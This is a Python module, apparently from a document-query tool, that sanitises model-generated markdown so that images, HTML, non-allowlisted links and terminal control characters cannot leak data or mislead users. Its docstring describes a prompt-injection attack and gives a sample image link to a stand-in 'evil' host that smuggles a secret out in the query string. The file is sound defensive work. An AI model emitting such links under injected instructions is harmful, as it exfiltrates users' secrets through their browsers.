"""Output sanitising against exfiltration through the user's browser (OWASP LLM05).

A prompt-injected document can make the model emit ``![x](https://evil/?q=<secret>)``;
a markdown renderer fetches the image and the secret leaves, whatever the
egress NetworkPolicies say. Regular expressions cannot follow CommonMark
(entities in a destination, a definition split over lines or inside a block
quote, nested brackets), so the text is parsed with a CommonMark parser
(markdown-it-py) and written back out as markdown in which:

* images and raw HTML are gone (an image leaves ``(image removed)``);
* a link is kept only when its resolved URL (``safe_url``: WHATWG rules) points
  at an allowlisted host (the allowlist is empty by default); otherwise only
  its label is kept, as text; reference definitions never reach the output;
* every other character is inert text: ``[``, ``]``, backticks and backslashes
  are escaped, entity-like ``&`` too, ``<`` becomes ``&lt;``, so nothing in the output can
  form a link, image, HTML tag or autolink, and a bare URL or e-mail address
  that a GFM renderer would turn into a link is replaced (URL) or put in a
  code span (e-mail) unless its host is allowlisted, and so is the text of a
  ``javascript:``, ``vbscript:``, ``data:`` or ``file:`` URI;
* control characters but tab and line feed are removed (a terminal obeys them);
* ``[S1]``-style citation markers stay as they are when nothing after them
  could make them a link;
* code (spans and fenced blocks) is the only raw content, and it stays code in
  any renderer: a span holding a ``|``, which a GFM table would split into
  cells, goes out as text, and a block goes out where the parser saw it, with
  no indentation in front that would make its fence an indented code block.

The output is *closed*: two outputs placed one after the other cannot form a
construct across the seam (the stream relies on this, ``sanitize_stream``); a
closing fence ends its line, so text after it cannot keep the fence open.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from docquery.rag.safe_url import HostAllowlist

IMAGE_REMOVED = "(image removed)"
LINK_REMOVED = "(link removed)"
TEXT_REMOVED = "(text removed)"
LABEL_CHARS = 1024

# Without one of these (or "www.") the text has no link, image, HTML, entity, escape, bare URL or
# e-mail: it is returned as it is (most deltas and citation fields). A class alone scans fast.
_TRIGGERS = re.compile(r"[\[\]<\\`&!@:]")
# A citation marker nothing after it can make a link: no "(" or "[" follows, and without ":" in the
# text there is no definition to resolve it. The full path keeps these raw too (see _escape).
_INERT_CITE = re.compile(r"\[S[0-9]{1,4}\](?=[ \t\n.,;]|[^\x00-\x7f]|\Z)")
# Bare URLs and e-mail addresses a GFM renderer links (plus slash-less schemes, which browsers
# resolve). Starts are anchored at run beginnings and quantifiers are possessive: linear time.
_BARE = re.compile(
    r"(?i)(?P<url>(?<![a-z0-9+.-])(?:[a-z][a-z0-9+.-]*+://|(?:https?|ftp|mailto|xmpp|javascript|vbscript|data|file):)[^\s<]*+"
    r"|(?<![a-z0-9])www\.[^\s<]*+)"
    r"|(?P<mail>(?<![a-z0-9._+-])[a-z0-9._+-]++@(?P<domain>[a-z0-9_-]++(?:\.[a-z0-9_-]++)*+))"
)
_ESCAPE = re.compile(r"(?P<cite>!?\[S[0-9]{1,4}\])|(?P<char>[\[\]<`])|\\(?=[!-/:-@\[-`{-~]|$)|&(?=#?[a-zA-Z0-9]+;)")
# A citation marker stays raw only before these, a non-ASCII character, or the end of its line:
# no "(", "[" or ":" can follow and make it a link or a definition.
_CITE_FOLLOW = frozenset(" \t\n.,;")
_BACKTICKS = re.compile(r"`+")
# A dot before a letter, after a label character or at the start (a piece may start there): the shape of
# "host.tld" that linkify-it links.
_DOMAIN_DOT = re.compile(r"(?<![^\w-])\.(?=[^\W\d_])")
CODE_INDENT = "    "
# A Python prompt opening a line (after a list marker, if any): the parser reads it as three quotes.
_PROMPT = re.compile(r"^[ \t]*(?:(?:[-+*]|[0-9]{1,9}[.)])[ \t]+)?>>>(?=[ \t]|$)", re.M)
# An invisible paragraph at the left margin: it ends any list or quote before a code block, in every renderer.
BREAK = "\u200b"
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]+")
# Characters an answer never needs (all C0 and C1 controls but tab and line feed): a terminal obeys them
# (`docquery ask` prints answers there; an escape sequence recolours or retitles it, a carriage return
# overwrites what the line said), so they are removed before anything else.
# Bidi embeddings, overrides and isolates go too: they make a terminal or a page show text in an order
# other than the one it has (a link or a command that reads as something else).
_ANSWER_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]+")
# Marks a piece that starts mid-line, so the parser does not read block syntax there (see render).
_MIDLINE = "\u2063"


class Sanitizer:
    """Turns untrusted markdown into inert markdown. One parser per instance (no module state)."""

    def __init__(self, allowlist: Iterable[str] = ()) -> None:
        self.allow = HostAllowlist(allowlist)
        # CommonMark with raw HTML recognised (so it can be dropped); no linkify, no typographer.
        self._md = MarkdownIt("commonmark")

    def host_allowed(self, url: str) -> bool:
        return self.allow.allows(url)

    def __call__(self, text: str) -> str:
        return self.render(text)

    def label(self, text: str) -> str:
        """A one-line field from a document (title, source, page, snippet): controls and newlines
        become spaces, then the same rules as answers, so no block syntax and no markup. Longer
        than ``LABEL_CHARS`` it is cut first (a heading can be any length; parsing is not linear
        in pathological bracket runs)."""
        # Printable text has no control character, and no whitespace but the ASCII space.
        flat = text if text.isprintable() and _single_spaced(text) else " ".join(_CONTROL.sub(" ", text).split())
        if len(flat) > LABEL_CHARS:
            flat = flat[: LABEL_CHARS - 1] + "…"
        return self.render(flat, domains=False)

    def render(self, text: str, *, at_line_start: bool = True, domains: bool = True) -> str:
        """Sanitise ``text``; ``at_line_start=False`` when it continues a line already sent.

        ``domains``: also keep bare domains (``evil.example/x``, ``//evil.example``) from being linked
        by a linkify renderer, by escaping their dot (``evil\\.example``) and the second slash. Labels
        (plain-text fields) skip it: an escaped dot there would reach JSON clients as a backslash.
        """
        if _ANSWER_CONTROLS.search(text) is not None:
            text = _ANSWER_CONTROLS.sub("", text)
        if inert(text):
            return unlink_domains(text) if domains else text
        return self.render_parsed(text, at_line_start=at_line_start, domains=domains)

    def render_parsed(self, text: str, *, at_line_start: bool = True, domains: bool = True) -> str:
        """``render`` without the ``inert`` shortcut: always through the parser."""
        core = text.strip()
        lead = text[: len(text) - len(text.lstrip())]
        trail = text[len(core) + len(lead) :]
        if not core:
            return text
        # After a newline in the leading whitespace the core does start a line.
        midline = not at_line_start and "\n" not in lead
        source = _MIDLINE + core if midline else core
        out = _Renderer(self.allow, domains=domains, source=source).blocks(
            SyntaxTreeNode(self._md.parse(source)).children, "\n\n"
        )
        if midline:
            out = out.replace(_MIDLINE, "", 1)
        else:
            # The core was parsed from the start of a line, so it goes out there: indentation in front
            # of its first block would change what that block is.
            lead = lead[: lead.rfind("\n") + 1]
        return lead + out + trail


def inert(text: str) -> bool:
    """True when ``text`` can hold no link, image, HTML, entity, escape, bare URL or e-mail address:
    no trigger character outside citation markers that stay raw, and no ``www.``."""
    if "[" in text:
        text = _INERT_CITE.sub("", text)
    # lower() never breaks a "www." run, it can only add one (conservative).
    # A ">>>" prompt opening a line is inert too, but goes through the parser to come out as code.
    return (
        _TRIGGERS.search(text) is None
        and "www." not in text.lower()
        and (">>>" not in text or not _PROMPT.search(text))
    )


def _single_spaced(text: str) -> bool:
    return "  " not in text and not text.startswith(" ") and not text.endswith(" ")


def _backslashes_before(s: str, i: int) -> int:
    n = 0
    while i - n - 1 >= 0 and s[i - n - 1] == "\\":
        n += 1
    return n


class _Renderer:
    """Writes a markdown-it syntax tree back out as inert markdown."""

    def __init__(self, allow: HostAllowlist, *, domains: bool, source: str) -> None:
        self.allow = allow
        self.lines = source.split("\n")
        self.plain = unlink_domains if domains else _same

    # -- blocks ------------------------------------------------------------------------------
    def blocks(self, nodes: list[SyntaxTreeNode], sep: str, *, item: bool = False) -> str:
        out = ""
        before = "item" if item else ""
        for node in nodes:
            part = self.block(node)
            if not part:
                continue
            code = part.startswith(CODE_INDENT)  # a code block, or a prompt session written as one
            if code and before in _OPENS_CODE_CONTEXT:
                # Indented lines after a list or quote, or first in an item, would be that item's text
                # (rendered as markdown) in some renderer: a paragraph at the margin comes first.
                part = BREAK + "\n\n" + part
            # An indented code block cannot interrupt a paragraph: a blank line always comes before one.
            out += ("\n\n" if code or before == "code" else sep) + part if out else part
            before = "code" if code else node.type
        return out

    def block(self, node: SyntaxTreeNode) -> str:
        render = _BLOCKS.get(node.type)
        # Anything else: its children, never its raw source.
        return render(self, node) if render else self.blocks(node.children, "\n\n")

    def paragraph(self, node: SyntaxTreeNode) -> str:
        return self.inline(node.children[0]) if node.children else ""

    def heading(self, node: SyntaxTreeNode) -> str:
        level = int(node.tag[1]) if node.tag[1:].isdigit() else 1
        return "#" * level + " " + self.paragraph(node)

    def blockquote(self, node: SyntaxTreeNode) -> str:
        session = self.prompt_session(node)
        if session is not None:
            return session
        inner = self.blocks(node.children, "\n\n")
        return "\n".join(("> " + line) if line else ">" for line in inner.split("\n"))

    def prompt_session(self, node: SyntaxTreeNode) -> str | None:
        """An interactive session (``>>> x``) that the parser read as nested quotes, as code."""
        if node.map is None:
            return None
        first, end = node.map
        m = _PROMPT.match(self.lines[first]) if first < len(self.lines) else None
        if m is None:
            return None
        col = m.end() - 3
        body = [self.lines[first][col:]]
        for line in self.lines[first + 1 : end]:
            body.append(line[col:] if not line[:col].strip() else line.lstrip())
        return code_block("\n".join(body))

    def code(self, node: SyntaxTreeNode) -> str:
        return code_block(node.content)

    def html_block(self, node: SyntaxTreeNode) -> str:
        # Raw HTML is never passed on; a block of it is shown as text.
        lines = (line.strip() for line in node.content.split("\n"))
        return "\n".join(self.text(line, end_ok=True) for line in lines if line)

    def list_(self, node: SyntaxTreeNode) -> str:
        tight = all(c.hidden for item in node.children for c in item.children if c.type == "paragraph")
        sep = "\n" if tight else "\n\n"
        number = int(str(node.attrs.get("start", 1))) if node.type == "ordered_list" else 0
        has_code = any(n.type in _CODE or n.type == "blockquote" for n in node.walk())
        items = []
        for item in node.children:
            marker = f"{number}{node.markup or '.'}" if node.type == "ordered_list" else (node.markup or "-")
            number += 1
            inner = self.blocks(item.children, sep, item=True)
            # Python-Markdown and markdown2 read an item's content at four columns, so a code block
            # in an item is indented from there: in every renderer it is then code, not a paragraph.
            pad = " " * (max(len(marker) + 1, 4) if has_code else len(marker) + 1)
            lines = inner.split("\n")
            head = f"{marker.ljust(len(pad) - 1)} {lines[0]}" if lines[0] else marker
            items.append("\n".join([head, *((pad + line) if line else "" for line in lines[1:])]))
        return sep.join(items)

    # -- inlines -----------------------------------------------------------------------------
    def inline(self, node: SyntaxTreeNode) -> str:
        return self.inlines(node.children)

    def inlines(self, nodes: list[SyntaxTreeNode]) -> str:
        out: list[str] = []
        for i, child in enumerate(nodes):
            nxt = nodes[i + 1].type if i + 1 < len(nodes) else "end"
            out.append(self.one_inline(child, out, end_ok=nxt in ("end", "softbreak", "hardbreak")))
        return "".join(out)

    def one_inline(self, node: SyntaxTreeNode, before: list[str], *, end_ok: bool) -> str:
        kind = node.type
        if kind == "text":
            return self.text(node.content, end_ok=end_ok)
        if kind == "link":
            return self.link(node, before)
        if kind in ("em", "strong"):
            mark = node.markup or ("*" if kind == "em" else "**")
            return mark + self.inlines(node.children) + mark
        if kind == "code_inline":
            # A GFM table splits a row at every "|", in code spans too, so a span holding one could
            # be cut into cells whose raw content renders as markdown: such a span goes out as text.
            return self.text(node.content, end_ok=end_ok) if "|" in node.content else _code_span(node.content)
        if kind == "html_inline":
            # Never passed on as HTML, but kept as text, as a block of it is: "vector<string>" in a
            # document reads "vector<string>" in the rendered answer, not "vector".
            return self.text(node.content, end_ok=end_ok)
        # Images are removed; anything unknown keeps its children only.
        fixed = _FIXED_INLINE.get(kind)
        return fixed if fixed is not None else self.inlines(node.children)

    def link(self, node: SyntaxTreeNode, before: list[str]) -> str:
        href = str(node.attrs.get("href", ""))
        allowed = self.allow.allows(href)
        if node.markup == "autolink":
            return f"<{_dest(href)}>" if allowed and href.lower().startswith(("http:", "https:")) else LINK_REMOVED
        label = self.inlines(node.children)
        if not allowed:
            return label
        if before and before[-1].endswith("!") and _backslashes_before(before[-1], len(before[-1]) - 1) % 2 == 0:
            before[-1] = before[-1][:-1] + "\\!"  # "!" + link would be an image
        return f"[{label}](<{_dest(href)}>)"

    def text(self, content: str, *, end_ok: bool) -> str:
        out: list[str] = []
        last = 0
        for m in _BARE.finditer(content):
            out.append(
                self.plain(_escape(content[last : m.start()], end_ok=False, tail=content[m.start() : m.start() + 1]))
            )
            last = m.end()
            found = m.group(0)
            if m.group("mail") is not None:
                domain = m.group("domain") or ""
                keep = self.allow.allows_host(domain)
                out.append(_escape(found, end_ok=False, tail="") if keep else _code_span(found))
            elif self.allow.allows(found if "//" in found[:12] else "https://" + found):
                out.append(_escape(found, end_ok=end_ok and m.end() == len(content), tail=""))
            else:
                out.append(LINK_REMOVED)
        out.append(self.plain(_escape(content[last:], end_ok=end_ok, tail="")))
        return "".join(out)


def _hr(_renderer: _Renderer, _node: SyntaxTreeNode) -> str:
    return "***"


_BLOCKS: dict[str, Callable[[_Renderer, SyntaxTreeNode], str]] = {
    "paragraph": _Renderer.paragraph,
    "heading": _Renderer.heading,
    "blockquote": _Renderer.blockquote,
    "bullet_list": _Renderer.list_,
    "ordered_list": _Renderer.list_,
    "fence": _Renderer.code,
    "code_block": _Renderer.code,
    "html_block": _Renderer.html_block,
    "hr": _hr,
}
_CODE = frozenset({"fence", "code_block"})
_OPENS_CODE_CONTEXT = frozenset({"item", "bullet_list", "ordered_list", "blockquote"})
_FIXED_INLINE = {"softbreak": "\n", "hardbreak": "\\\n", "image": IMAGE_REMOVED}


def unlink_domains(text: str) -> str:
    """``text`` with what a linkify renderer reads as a bare domain made inert, still readable:
    the dot before a top-level-domain-like label is escaped (``file\\.py``), and so is the second
    slash of ``//`` (a scheme-relative URL)."""
    if "." not in text and "//" not in text:
        return text
    return _DOMAIN_DOT.sub(r"\\.", text).replace("//", "/\\/")


def _same(text: str) -> str:
    return text


def _escape(text: str, *, end_ok: bool, tail: str) -> str:
    def sub(m: re.Match[str]) -> str:
        cite = m.group("cite")
        if cite is not None:
            after = text[m.end() : m.end() + 1] or tail
            raw = (after in _CITE_FOLLOW or ord(after) > 127) if after else end_ok
            if raw:
                return ("\\!" if cite.startswith("!") else "") + cite.lstrip("!")
            return ("\\!" if cite.startswith("!") else "") + "\\[" + cite.lstrip("!")[1:-1] + "\\]"
        char = m.group(0)
        # "&lt;" rather than "\\<": inert in markdown and still no tag if a client inserts it as HTML.
        return "&lt;" if char == "<" else "\\" + char

    return _ESCAPE.sub(sub, text)


def _dest(href: str) -> str:
    # markdown-it has percent-encoded spaces, "<", ">" and "\\"; "&" would start an entity.
    return href.replace("&", "&amp;")


def _code_span(content: str) -> str:
    content = content.replace("\n", " ")
    longest = max((len(r) for r in _BACKTICKS.findall(content)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
    return f"{fence}{pad}{content}{pad}{fence}"


def code_block(content: str) -> str:
    """``content`` as an indented code block: the one code form every common renderer keeps
    literal (Python-Markdown and markdown2 know no fences by default, and read a fence's lines as
    markdown and raw HTML). Blank lines at either end are dropped; blank lines inside stay blank."""
    lines = [line if line.strip() else "" for line in content.split("\n")]
    while lines and not lines[0]:
        lines.pop(0)
    while lines and not lines[-1]:
        lines.pop()
    return "\n".join(CODE_INDENT + line if line else "" for line in lines)
